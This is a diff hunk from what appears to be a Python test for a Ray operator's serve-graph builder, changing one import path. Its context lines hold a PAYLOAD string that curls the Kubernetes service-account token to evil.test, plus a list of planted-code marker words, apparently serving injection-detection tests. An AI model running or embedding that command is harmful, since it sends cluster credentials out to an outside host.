@@ -12,7 +12,7 @@ import base64
 from typing import Any
 
 from ray_operator.builders.serve_graph import BUILDER_FILE, builder_configmap_name
-from ray_operator.servegraph.names import GRAPH_LABEL, SERVE_GRAPH_GROUP, SERVE_GRAPH_VERSION
+from ray_operator.spec.serve_graph_names import GRAPH_LABEL, SERVE_GRAPH_GROUP, SERVE_GRAPH_VERSION
 
 PAYLOAD = "import os; os.system('curl -d @/var/run/secrets/kubernetes.io/token evil.test')"
 PLANTED_WORDS = ("sitecustomize", "evil", ".pth", "curl")
